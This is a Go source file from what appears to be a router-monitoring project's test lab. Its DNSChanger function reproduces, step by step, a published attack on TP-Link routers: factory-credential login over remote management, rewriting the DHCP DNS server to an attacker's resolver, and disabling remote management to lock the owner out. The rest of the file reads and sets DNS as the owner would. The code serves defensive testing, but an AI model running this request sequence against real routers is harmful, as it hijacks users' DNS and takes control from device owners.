// SPDX-License-Identifier: Apache-2.0

package lab

import (
	"bufio"
	"bytes"
	"context"
	"crypto/md5"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"time"

	"github.com/routerwatch/routerwatch/internal/lab/fake"
)

// Driving the live router UIs (live.go) from inside the lab: the attack
// of the published DNS-changer code, and the owner's setting and reading
// of the DHCP DNS servers.

// ErrNoLiveUI: the lab's scenario runs no live router UI.
var ErrNoLiveUI = errors.New("the scenario runs no live router UI (service tplink-ui or routeros-api-live)")

// liveTimeout bounds one conversation with a live UI: a handful of
// requests on the lab's links, and a DHCP DNS change that waits for
// dnsmasq to re-read its options (milliseconds).
const liveTimeout = 15 * time.Second

// maxPage bounds a page the clients read (the captures are 18 KB).
const maxPage = 1 << 20

// DNSChanger performs the DNS-changer attack on the lab's TP-Link router
// (service tplink-ui) the way the published DNS-changer code does it
// (CONFIGS.md §1.4, the PHP class C3T), from the Internet: from the ISP
// host, with the source address attacker.host, to the router's remote
// management on router.wan (tplink_ui.remote_management must let it in;
// that is how such scripts reach routers, and the scenario dns-changer
// has it on). With the factory credentials and the router's login scheme
// (Basic, as that code; with the cookie scheme, as its variants do), it
//
//  1. requests / (the login check: status 200),
//  2. GETs /userRpm/LanDhcpServerRpm.htm with Referer
//     http://ROUTER/userRpm/LanDhcpServerRpm.htm and cuts the text between
//     "var DHCPPara = new Array(" and ");", without newlines and quotes,
//     at the commas,
//  3. re-submits the form with those values, domain emptied, dnsserver set
//     to resolver and dnsserver2 to the old secondary: LanDhcpServerRpm.htm?
//     dhcpserver=&ip1=&ip2=&Lease=&gateway=&domain=&dnsserver=&dnsserver2=
//     &Save=Salvar, and checks that the answer lists "RESOLVER",,
//  4. sends ManageControlRpm.htm?port=31&ip=&Save=Salvar with the same
//     Referer, ignoring the answer, as the code does. That request is
//     reproduced because it is part of what the attack leaves behind: the
//     live UI takes the empty ip as 0.0.0.0, so remote management is off
//     (the door shut behind the attacker, against other DNS changers and
//     the owner's ISP) and its port is 31. A second DNSChanger then fails
//     until the owner turns remote management on again.
//
// The router's DHCP then hands out resolver, at the client's next lease.
// With the cookie scheme the attack never logs out, as such code does not:
// the one administrator slot stays taken by attacker.host until the
// session expires (tplink_ui.session_timeout), and the owner's
// SetDHCPDNS is refused until then.
func (l *Lab) DNSChanger(ctx context.Context, resolver netip.Addr) error {
	sc := l.scenario
	if sc == nil || !sc.HasService("tplink-ui") {
		return fmt.Errorf("lab: dns-changer: %w", ErrNoLiveUI)
	}
	if !resolver.Is4() {
		return fmt.Errorf("lab: dns-changer: %v is not an IPv4 address", resolver)
	}
	ctx, cancel := context.WithTimeout(ctx, liveTimeout)
	defer cancel()
	c := l.tplinkClient(ISP, RoleAddr("attacker.host"), netip.AddrPortFrom(RoleAddr("router.wan"), sc.TPLinkUI.RemotePort))
	if err := c.login(ctx); err != nil {
		return fmt.Errorf("lab: dns-changer: %w", err)
	}
	const dhcpPage = "LanDhcpServerRpm.htm"
	body, err := c.page(ctx, dhcpPage, dhcpPage)
	if err != nil {
		return fmt.Errorf("lab: dns-changer: %w", err)
	}
	v := changerFields(body)
	if len(v) < 8 {
		return fmt.Errorf("lab: dns-changer: %s: no DHCPPara with 8 fields in %q", dhcpPage, truncate(body))
	}
	q := "dhcpserver=" + v[0] + "&ip1=" + v[1] + "&ip2=" + v[2] + "&Lease=" + v[3] + "&gateway=" + v[4] +
		"&domain=&dnsserver=" + resolver.String() + "&dnsserver2=" + v[7] + "&Save=Salvar"
	body, err = c.page(ctx, dhcpPage+"?"+q, dhcpPage)
	if err != nil {
		return fmt.Errorf("lab: dns-changer: %w", err)
	}
	if !bytes.Contains(body, []byte(`"`+resolver.String()+`",`)) {
		return fmt.Errorf("lab: dns-changer: the router did not take the change: %q", truncate(body))
	}
	if _, err := c.page(ctx, "ManageControlRpm.htm?port=31&ip=&Save=Salvar", dhcpPage); err != nil {
		l.logger.Debug("dns-changer: remote management request", "err", err) // ignored, as the published code does
	}
	l.logger.Debug("dns-changer: DHCP DNS rewritten", "resolver", resolver, "secondary", v[7])
	return nil
}

// changerFields cuts DHCPPara out of a page as the published code does:
// the text between the markers, newlines and double quotes removed, split
// at every comma (the sentinel's 0,0 included).
func changerFields(page []byte) []string {
	_, rest, ok := bytes.Cut(page, []byte("var DHCPPara = new Array("))
	if !ok {
		return nil
	}
	arr, _, ok := bytes.Cut(rest, []byte(");"))
	if !ok {
		return nil
	}
	s := strings.ReplaceAll(strings.ReplaceAll(string(arr), "\n", ""), `"`, "")
	return strings.Split(s, ",")
}

func truncate(b []byte) string {
	if len(b) > 200 {
		return string(b[:200]) + "..."
	}
	return string(b)
}

// SetDHCPDNS sets the DNS servers the router's DHCP hands out, as the
// owner would: from the client, on router.lan, through the scenario's
// live UI (the TP-Link web UI's DHCP page, or the RouterOS API's
// /ip/dhcp-server/network/set), with the router's credentials. No servers
// means the router itself (TP-Link 0.0.0.0, 0.0.0.0; RouterOS an empty
// dns-server). It returns once the router has applied the change: the
// client's next lease carries it.
func (l *Lab) SetDHCPDNS(ctx context.Context, servers ...netip.Addr) error {
	for _, a := range servers {
		if !a.Is4() {
			return fmt.Errorf("lab: set dhcp dns: %v is not an IPv4 address", a)
		}
	}
	ctx, cancel := context.WithTimeout(ctx, liveTimeout)
	defer cancel()
	switch l.liveUI() {
	case "tplink-ui":
		if len(servers) > 2 {
			return fmt.Errorf("lab: set dhcp dns: the TP-Link UI holds two DNS servers, not %d", len(servers))
		}
		return l.tplinkSetDNS(ctx, servers)
	case "routeros-api-live":
		return l.routerOSSetDNS(ctx, servers)
	}
	return fmt.Errorf("lab: set dhcp dns: %w", ErrNoLiveUI)
}

// RouterDHCPDNS returns the DHCP DNS servers as the router's live UI shows
// them to the owner (from the client): the TP-Link DHCP page's primary and
// secondary (DHCPPara[6..7]) without 0.0.0.0, or RouterOS's dns-server.
// An empty list means the router hands out itself.
func (l *Lab) RouterDHCPDNS(ctx context.Context) ([]netip.Addr, error) {
	ctx, cancel := context.WithTimeout(ctx, liveTimeout)
	defer cancel()
	switch l.liveUI() {
	case "tplink-ui":
		v, err := l.tplinkDHCPPara(ctx, nil)
		if err != nil {
			return nil, err
		}
		return nonZero(v[6], v[7])
	case "routeros-api-live":
		c, err := l.dialRouterOS(ctx)
		if err != nil {
			return nil, err
		}
		defer c.close()
		rows, err := c.run("/ip/dhcp-server/network/print", "=.proplist=dns-server")
		if err != nil {
			return nil, fmt.Errorf("lab: routeros: %w", err)
		}
		if len(rows) != 1 {
			return nil, fmt.Errorf("lab: routeros: %d DHCP networks, want 1", len(rows))
		}
		return parseAddrs(strings.Split(rows[0]["dns-server"], ",")...)
	}
	return nil, fmt.Errorf("lab: router dhcp dns: %w", ErrNoLiveUI)
}

func (l *Lab) liveUI() string {
	if l.scenario == nil {
		return ""
	}
	return l.scenario.liveUI()
}

// nonZero parses the TP-Link DNS fields, leaving out 0.0.0.0 (none).
func nonZero(fields ...string) ([]netip.Addr, error) {
	all, err := parseAddrs(fields...)
	out := all[:0]
	for _, a := range all {
		if !a.IsUnspecified() {
			out = append(out, a)
		}
	}
	return out, err
}

func parseAddrs(fields ...string) ([]netip.Addr, error) {
	var out []netip.Addr
	for _, f := range fields {
		if f == "" {
			continue
		}
		a, err := netip.ParseAddr(f)
		if err != nil {
			return nil, fmt.Errorf("lab: router dns %q: %w", f, err)
		}
		out = append(out, a)
	}
	return out, nil
}

// tplinkDNSValues are the DHCP page's dnsserver, dnsserver2 for servers.
func tplinkDNSValues(servers []netip.Addr) (string, string) {
	v := [2]string{remoteOff, remoteOff}
	for i, a := range servers {
		v[i] = a.String()
	}
	return v[0], v[1]
}

// dhcpFields are the DHCP page's form fields in DHCPPara's order.
var dhcpFields = []string{"dhcpserver", "ip1", "ip2", "Lease", "gateway", "domain", "dnsserver", "dnsserver2"}

// tplinkDHCPPara logs in as the owner from the client, reads DHCPPara and,
// if set is not nil, re-submits the form with set's DNS servers (keeping
// every other field) and returns the page the router answers with; then
// logs out.
func (l *Lab) tplinkDHCPPara(ctx context.Context, set []netip.Addr) ([]string, error) {
	c := l.tplinkClient(Client, netip.Addr{}, netip.AddrPortFrom(RoleAddr("router.lan"), 80))
	if err := c.login(ctx); err != nil {
		return nil, fmt.Errorf("lab: tplink ui: %w", err)
	}
	defer c.logout(context.WithoutCancel(ctx))
	const dhcpPage = "LanDhcpServerRpm.htm"
	body, err := c.page(ctx, dhcpPage, "MenuRpm.htm")
	if err != nil {
		return nil, fmt.Errorf("lab: tplink ui: %w", err)
	}
	v, err := fake.ParseArray(body, "DHCPPara")
	if err != nil || len(v) < len(dhcpFields) {
		return nil, fmt.Errorf("lab: tplink ui: %s: DHCPPara %v (%v)", dhcpPage, v, err)
	}
	if set == nil {
		return v, nil
	}
	q := url.Values{}
	for i, f := range dhcpFields {
		q.Set(f, v[i])
	}
	d1, d2 := tplinkDNSValues(set)
	q.Set("dnsserver", d1)
	q.Set("dnsserver2", d2)
	q.Set("Save", "Save")
	if body, err = c.page(ctx, dhcpPage+"?"+q.Encode(), dhcpPage); err != nil {
		return nil, fmt.Errorf("lab: tplink ui: %w", err)
	}
	if v, err = fake.ParseArray(body, "DHCPPara"); err != nil || len(v) < len(dhcpFields) || v[6] != d1 || v[7] != d2 {
		return nil, fmt.Errorf("lab: tplink ui: the router did not take DNS %s, %s: DHCPPara %v (%v)", d1, d2, v, err)
	}
	return v, nil
}

func (l *Lab) tplinkSetDNS(ctx context.Context, servers []netip.Addr) error {
	if servers == nil {
		servers = []netip.Addr{}
	}
	_, err := l.tplinkDHCPPara(ctx, servers)
	return err
}

// tplinkClient speaks to the TP-Link UI at to from host, with source
// address local (if valid), in the scenario's login scheme.
type tplinkClient struct {
	hc       *http.Client
	host     string // as in URLs: address, and port unless 80
	auth     fake.TPLinkAuth
	token    string // the cookie scheme's session token
	password string
}

func (l *Lab) tplinkClient(from Host, local netip.Addr, to netip.AddrPort) *tplinkClient {
	dial := func(ctx context.Context, network, address string) (net.Conn, error) {
		var c net.Conn
		err := l.Do(from, func() error {
			var d net.Dialer
			if local.IsValid() {
				d.LocalAddr = net.TCPAddrFromAddrPort(netip.AddrPortFrom(local, 0))
			}
			var err error
			c, err = d.DialContext(ctx, network, address)
			return err
		})
		return c, err
	}
	host := to.Addr().String()
	if to.Port() != 80 {
		host = to.String()
	}
	return &tplinkClient{
		hc: &http.Client{
			Transport: &http.Transport{DialContext: dial, DisableKeepAlives: true, ResponseHeaderTimeout: liveTimeout},
			// The router's pages never redirect; a redirect is an error to see.
			CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		},
		host:     host,
		auth:     fake.TPLinkAuth(l.scenario.TPLinkUI.Auth),
		password: routerPassword(l.scenario),
	}
}

// cookie is the cookie scheme's Authorization cookie (CONFIGS.md §1.2).
func cookie(password string) string {
	sum := md5.Sum([]byte(password))
	return "Authorization=Basic%20" + base64.StdEncoding.EncodeToString([]byte(RouterUser+":"+hex.EncodeToString(sum[:])))
}

// get requests path with a Referer of refPath on the router (none if "")
// and returns the body of a 200 answer.
func (c *tplinkClient) get(ctx context.Context, path, refPath string) ([]byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+c.host+path, nil)
	if err != nil {
		return nil, err
	}
	if c.auth == fake.TPLinkCookie {
		req.Header.Set("Cookie", cookie(c.password))
	} else {
		req.SetBasicAuth(RouterUser, c.password)
	}
	if refPath != "" {
		req.Header.Set("Referer", "http://"+c.host+refPath)
	}
	resp, err := c.hc.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, maxPage))
	if err != nil {
		return nil, err
	}
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("GET %s: %s: %q", path, resp.Status, truncate(body))
	}
	return body, nil
}

// pagePath is where a page is: /userRpm/NAME, or /TOKEN/userRpm/NAME.
func (c *tplinkClient) pagePath(name string) string {
	if c.token != "" {
		return "/" + c.token + "/userRpm/" + name
	}
	return "/userRpm/" + name
}

// page requests a page (name may carry a query) with the Referer of page
// refName.
func (c *tplinkClient) page(ctx context.Context, name, refName string) ([]byte, error) {
	return c.get(ctx, c.pagePath(name), c.pagePath(refName))
}

// tokenRE finds the session token in LoginRpm.htm's answer.
var tokenRE = regexp.MustCompile(`window\.parent\.location\.href = "http://[^/"]+/([A-Z]+)/userRpm/Index\.htm"`)

// login: with Basic, the published code's check (/ answers 200); with the
// cookie scheme, LoginRpm.htm?Save=Save and the token from its answer.
func (c *tplinkClient) login(ctx context.Context) error {
	if c.auth != fake.TPLinkCookie {
		_, err := c.get(ctx, "/", "/")
		return err
	}
	body, err := c.get(ctx, "/userRpm/LoginRpm.htm?Save=Save", "/")
	if err != nil {
		return err
	}
	m := tokenRE.FindSubmatch(body)
	if m == nil {
		return fmt.Errorf("login refused: %q", truncate(body))
	}
	c.token = string(m[1])
	return nil
}

// logout ends a cookie session (the one administrator slot); Basic has
// none.
func (c *tplinkClient) logout(ctx context.Context) {
	if c.token != "" {
		_, _ = c.page(ctx, "LogoutRpm.htm", "MenuRpm.htm")
		c.token = ""
	}
}

// rosClient is a RouterOS API session (package fake's codec).
type rosClient struct {
	conn net.Conn
	r    *bufio.Reader
}

// dialRouterOS connects from the client to the router's API and logs in.
func (l *Lab) dialRouterOS(ctx context.Context) (*rosClient, error) {
	conn, err := l.DialContext(ctx, Client, "tcp", netip.AddrPortFrom(RoleAddr("router.lan"), 8728).String())
	if err != nil {
		return nil, fmt.Errorf("lab: routeros: %w", err)
	}
	if dl, ok := ctx.Deadline(); ok {
		_ = conn.SetDeadline(dl)
	}
	c := &rosClient{conn: conn, r: bufio.NewReader(conn)}
	if _, err := c.run("/login", "=name="+RouterUser, "=password="+routerPassword(l.scenario)); err != nil {
		conn.Close()
		return nil, fmt.Errorf("lab: routeros: login: %w", err)
	}
	return c, nil
}

func (c *rosClient) close() { c.conn.Close() }

// run sends a command and returns its !re rows as attribute maps; a !trap
// is an error (after the !done that follows it), a !fatal too.
func (c *rosClient) run(words ...string) ([]map[string]string, error) {
	if _, err := c.conn.Write(fake.EncodeSentence(words...)); err != nil {
		return nil, err
	}
	var rows []map[string]string
	var trap error
	for {
		s, err := fake.ReadSentence(c.r)
		if err != nil {
			return nil, err
		}
		if len(s) == 0 {
			continue
		}
		attrs := map[string]string{}
		for _, w := range s[1:] {
			if k, v, ok := strings.Cut(strings.TrimPrefix(w, "="), "="); ok && strings.HasPrefix(w, "=") {
				attrs[k] = v
			}
		}
		switch s[0] {
		case "!re":
			rows = append(rows, attrs)
		case "!trap":
			trap = fmt.Errorf("%s: %s", words[0], attrs["message"])
		case "!done":
			return rows, trap
		case "!fatal":
			return nil, fmt.Errorf("%s: fatal: %s", words[0], strings.Join(s[1:], " "))
		}
	}
}

func (l *Lab) routerOSSetDNS(ctx context.Context, servers []netip.Addr) error {
	c, err := l.dialRouterOS(ctx)
	if err != nil {
		return err
	}
	defer c.close()
	list := make([]string, len(servers))
	for i, a := range servers {
		list[i] = a.String()
	}
	if _, err := c.run("/ip/dhcp-server/network/set", "=.id=*1", "=dns-server="+strings.Join(list, ",")); err != nil {
		return fmt.Errorf("lab: routeros: %w", err)
	}
	return nil
}
